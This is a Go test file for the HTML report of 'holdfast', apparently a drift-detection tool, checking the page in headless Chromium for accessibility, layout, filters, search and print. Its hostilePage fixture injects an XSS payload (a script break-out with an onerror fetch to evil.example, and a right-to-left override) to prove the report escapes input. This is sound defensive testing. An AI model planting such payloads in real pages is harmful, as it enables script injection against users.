package report_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	cdpruntime "github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"holdfast/internal/drift"
	"holdfast/internal/report"
)

// needBrowser finds Chromium and axe-core. It skips where one is missing, and
// fails with HOLDFAST_REQUIRE_LAB=1.
func needBrowser(t *testing.T) (chromium, axe string) {
	t.Helper()
	missing := func(format string, args ...any) {
		t.Helper()
		if os.Getenv("HOLDFAST_REQUIRE_LAB") == "1" {
			t.Fatalf("HOLDFAST_REQUIRE_LAB=1: "+format, args...)
		}
		t.Skipf(format, args...)
	}
	names := []string{"chromium", "chromium-browser", "google-chrome"}
	if named := os.Getenv("HOLDFAST_LAB_CHROMIUM"); named != "" {
		names = []string{named}
	}
	for _, name := range names {
		if path, err := exec.LookPath(name); err == nil {
			chromium = path
			break
		}
	}
	if chromium == "" {
		missing("no Chromium (%s) in the PATH; install one (Debian: apt-get install chromium) or set HOLDFAST_LAB_CHROMIUM", strings.Join(names, ", "))
	}
	_, here, _, _ := runtime.Caller(0)
	source, err := os.ReadFile(filepath.Join(filepath.Dir(here), "..", "..", ".tools", "axe", "node_modules", "axe-core", "axe.min.js"))
	if err != nil {
		missing("no axe-core, run scripts/setup-browser: %v", err)
	}
	return chromium, string(source)
}

// browser is one Chromium for the tests of a function.
func browser(t *testing.T, chromium string) context.Context {
	t.Helper()
	options := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromium), chromedp.NoSandbox, chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-dev-shm-usage", true))
	alloc, stopAlloc := chromedp.NewExecAllocator(t.Context(), options...)
	ctx, stop := chromedp.NewContext(alloc)
	t.Cleanup(func() {
		_ = chromedp.Cancel(ctx) // waits for the browser's end
		stop()
		stopAlloc()
	})
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// visit is what a page did while it was looked at.
type visit struct {
	mu       sync.Mutex
	requests []string
	messages []string
}

func (v *visit) listen(ev any) {
	v.mu.Lock()
	defer v.mu.Unlock()
	switch ev := ev.(type) {
	case *network.EventRequestWillBeSent:
		v.requests = append(v.requests, ev.Request.URL)
	case *cdpruntime.EventConsoleAPICalled:
		v.messages = append(v.messages, fmt.Sprint("console: ", ev.Type))
	case *cdpruntime.EventExceptionThrown:
		v.messages = append(v.messages, "exception: "+ev.ExceptionDetails.Text)
	case *cdplog.EventEntryAdded:
		v.messages = append(v.messages, "log: "+ev.Entry.Text)
	}
}

// fault is what axe-core found.
type fault struct {
	ID, Impact, Help string
	Nodes            []struct {
		HTML    string
		Summary string `json:"failureSummary"`
	}
}

const runAxe = `axe.run(document, {resultTypes: ["violations"]}).then(r => JSON.stringify(r.violations))`

// look is how the page is looked at.
type look struct {
	width  int64
	scheme string
	script bool
}

func (l look) String() string {
	script := ""
	if !l.script {
		script = "-noscript"
	}
	return fmt.Sprintf("%d-%s%s", l.width, l.scheme, script)
}

var looks = []look{{1280, "light", true}, {1280, "dark", true}, {390, "light", true}, {390, "dark", true}, {390, "light", false}}

// open loads a file into a tab of its own.
func openPage(browser context.Context, t *testing.T, file string, l look) (context.Context, *visit) {
	t.Helper()
	tab, closeTab := chromedp.NewContext(browser)
	t.Cleanup(closeTab)
	v := &visit{}
	path, fragment, _ := strings.Cut(file, "#")
	must(t, chromedp.Listen(tab, v.listen))
	call(tab, t, network.Enable, network.EnableParams{})
	call(tab, t, cdplog.Enable, cdp.Empty{})
	call(tab, t, cdpruntime.Enable, cdp.Empty{})
	call(tab, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: l.scheme}}})
	call(tab, t, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: !l.script})
	must(t, chromedp.Do(tab, chromedp.EmulateViewport(l.width, 900), chromedp.Navigate((&url.URL{Scheme: "file", Path: path, Fragment: fragment}).String())))
	return tab, v
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func call[P, R any](tab context.Context, t *testing.T, command cdp.Command[P, R], params P) {
	t.Helper()
	_, err := chromedp.Call(tab, command, params)
	must(t, err)
}

// ask evaluates JavaScript in the page.
func ask[T any](tab context.Context, t *testing.T, expression string) T {
	t.Helper()
	v, err := chromedp.Run(tab, chromedp.Evaluate[T](expression, chromedp.EvalAwaitPromise))
	must(t, err)
	return v
}

func writePage(t *testing.T, run drift.Run, o report.Options) string {
	t.Helper()
	var out bytes.Buffer
	if err := report.HTML(&out, run, o); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "drift.html")
	if err := os.WriteFile(file, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

// TestPage looks at the page in Chromium, wide and narrow, light and dark, with
// nothing found, with a few findings and with 500, and with no JavaScript. Set
// HOLDFAST_SHOTS to a folder to keep pictures.
func TestPage(t *testing.T) {
	t.Parallel()
	chromium, axe := needBrowser(t)
	ctx := browser(t, chromium)
	for name, fill := range map[string]func() (drift.Run, report.Options){
		"0": empty, "8": rich, "500": func() (drift.Run, report.Options) { return fleet(500) },
		"none":    func() (drift.Run, report.Options) { return drift.Run{}, report.Options{} },
		"hostile": hostilePage,
	} {
		run, o := fill()
		file := writePage(t, run, o)
		for _, l := range looks {
			t.Run(name+"-"+l.String(), func(t *testing.T) {
				tab, visit := openPage(ctx, t, file, l)
				examine(tab, t, l, axe)
				shoot(tab, t, name+"-"+l.String())
				visit.mu.Lock()
				defer visit.mu.Unlock()
				if len(visit.messages) > 0 {
					t.Errorf("the page complained: %v", visit.messages)
				}
				for _, r := range visit.requests {
					if !strings.HasPrefix(r, "file://") && !strings.HasPrefix(r, "data:") {
						t.Errorf("the page asked for %s", r)
					}
				}
				if files := slices.DeleteFunc(visit.requests, func(r string) bool { return strings.HasPrefix(r, "data:") }); len(files) != 1 {
					t.Errorf("requests: %v; only the page itself was to be asked for", files)
				}
			})
		}
	}
}

// hostilePage has what is worst in every place.
func hostilePage() (drift.Run, report.Options) {
	run, o := rich()
	evil := `</script></style><img src=x onerror="fetch('https://evil.example')"><b>"'` + "\u202egnp.x" + strings.Repeat("wide_", 200)
	s := &run.Stacks[0]
	s.Path, s.EngineReason, o.Environment = evil, evil, evil
	for i := range s.Findings {
		f := &s.Findings[i]
		f.Address, f.ID, f.Doubt, f.Cause, f.Source = evil, evil, evil, &drift.Cause{Summary: evil}, &drift.Position{File: evil, Line: 1}
		for k := range f.Changes {
			if c := &f.Changes[k]; !c.Sensitive {
				c.Path, c.Expected, c.Actual = evil, mustJSON(evil), mustJSON(evil+"\n"+evil)
			}
		}
	}
	s.Errors[0].Message, s.Pending[0].Address, s.Adopted[0].Paths[0] = evil, evil, evil
	return run, o
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// examine looks for what is wrong with the page as it is shown.
func examine(tab context.Context, t *testing.T, l look, axe string) {
	t.Helper()
	// For the questions; the page is there already.
	call(tab, t, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{})
	scrolls, inner := ask[int64](tab, t, `document.documentElement.scrollWidth`), ask[int64](tab, t, `window.innerWidth`)
	background := ask[string](tab, t, `getComputedStyle(document.body).backgroundColor`)
	if inner != l.width || scrolls > inner {
		t.Errorf("the page is %d wide in a window of %d", scrolls, inner)
	}
	if dark := background == "rgb(15, 19, 24)"; dark != (l.scheme == "dark") {
		t.Errorf("the ground is %s", background)
	}
	ask[string](tab, t, axe+"; axe.version")
	var faults []fault
	must(t, json.Unmarshal([]byte(ask[string](tab, t, runAxe)), &faults))
	for _, f := range faults {
		report := t.Errorf
		if f.Impact != "serious" && f.Impact != "critical" {
			report = t.Logf
		}
		report("%s %s: %s (%d times), as in %s: %s", f.Impact, f.ID, f.Help, len(f.Nodes), f.Nodes[0].HTML, f.Nodes[0].Summary)
	}
}

// shoot keeps pictures of what a person sees first, and of the whole page.
func shoot(tab context.Context, t *testing.T, name string) {
	t.Helper()
	folder := os.Getenv("HOLDFAST_SHOTS")
	if folder == "" {
		return
	}
	picture, err := chromedp.Run(tab, chromedp.FullScreenshot(100))
	must(t, err)
	must(t, os.WriteFile(filepath.Join(folder, name+".png"), picture, 0o600))
}

// visible counts the findings that are shown, and the notes beside them.
const visible = `[...document.querySelectorAll(".finding")].filter(f => f.checkVisibility()).length`

// TestPageFilters chooses among findings: by the filters, which need no
// JavaScript, by the keyboard, and by the search, which needs it.
func TestPageFilters(t *testing.T) {
	t.Parallel()
	chromium, _ := needBrowser(t)
	ctx := browser(t, chromium)
	run, o := fleet(500)
	n := numbersOf(run)
	count := func(which func(drift.Finding) bool) int {
		n := 0
		for _, s := range run.Stacks {
			for _, f := range s.Findings {
				if which(f) {
					n++
				}
			}
		}
		return n
	}
	deleted := count(func(f drift.Finding) bool { return f.Kind == drift.Deleted })
	file := writePage(t, run, o)
	t.Run("without JavaScript", func(t *testing.T) {
		tab, _ := openPage(ctx, t, file, look{1280, "light", false})
		for id, want := range map[string]int{
			"show-all": 500, "show-open": n.Findings, "show-deleted": deleted, "show-excused": n.Waived + n.Ignored,
			"show-possible": count(func(f drift.Finding) bool { return f.Certainty == drift.Possible }),
		} {
			must(t, chromedp.Do(tab, chromedp.Click("label:has(#"+id+")")))
			if got := ask[int](tab, t, visible); got != want || want == 0 {
				t.Errorf("%s: %d findings are shown, want %d", id, got, want)
			}
			if empty := ask[int](tab, t, `[...document.querySelectorAll(".stack")].filter(s => s.checkVisibility() && ![...s.querySelectorAll(".finding, .note")].some(f => f.checkVisibility())).length`); empty != 0 {
				t.Errorf("%s: %d stacks with nothing to show", id, empty)
			}
		}
		if ask[bool](tab, t, `document.getElementById("search").checkVisibility()`) {
			t.Error("a search is shown that can't work")
		}
	})
	t.Run("by keyboard", func(t *testing.T) {
		tab, _ := openPage(ctx, t, file, look{390, "light", true})
		must(t, chromedp.Do(tab, chromedp.Focus("#show-all"), chromedp.KeyEvent(kb.ArrowRight)))
		if got := ask[int](tab, t, visible); got != n.Findings {
			t.Errorf("%d findings are shown, want %d", got, n.Findings)
		}
		if outline := ask[string](tab, t, `getComputedStyle(document.querySelector("label:has(#show-open)")).outlineStyle`); outline != "solid" {
			t.Errorf("the focus can't be seen: outline %s", outline)
		}
		must(t, chromedp.Do(tab, chromedp.Focus(".finding summary"), chromedp.KeyEvent(kb.Enter)))
		if !ask[bool](tab, t, `document.querySelector(".finding").open`) {
			t.Error("Enter does not open a finding")
		}
	})
	t.Run("search", func(t *testing.T) {
		tab, visit := openPage(ctx, t, file+"#finding-"+run.Stacks[3].Findings[0].ID, look{1280, "dark", true})
		if !ask[bool](tab, t, `document.querySelector(":target").open`) {
			t.Error("a link to a finding does not open it")
		}
		must(t, chromedp.Do(tab, chromedp.SendKeys("#query", "service_07 IAM")))
		want := count(func(f drift.Finding) bool {
			return strings.Contains(f.Address, "service_07") && strings.Contains(f.Address, "iam")
		})
		if got := ask[int](tab, t, visible); got != want {
			t.Errorf("%d findings are found, want %d", got, want)
		}
		must(t, chromedp.Do(tab, chromedp.SendKeys("#query", " nowhere")))
		if !ask[bool](tab, t, `document.querySelector(".none").checkVisibility()`) {
			t.Error("nothing says that nothing was found")
		}
		if len(visit.messages) > 0 {
			t.Error(visit.messages)
		}
	})
	t.Run("print", func(t *testing.T) {
		tab, _ := openPage(ctx, t, file, look{1280, "dark", true})
		call(tab, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
		// The style for paper applies some time after it was asked for.
		const printed = `document.querySelector(".finding:not([open]) .body").checkVisibility({contentVisibilityAuto: true})`
		if _, err := chromedp.Run(tab, chromedp.Poll[bool](printed, chromedp.WithPollingTimeout(5*time.Second))); err != nil {
			t.Errorf("what is folded is not printed: %v", err)
		}
	})
}
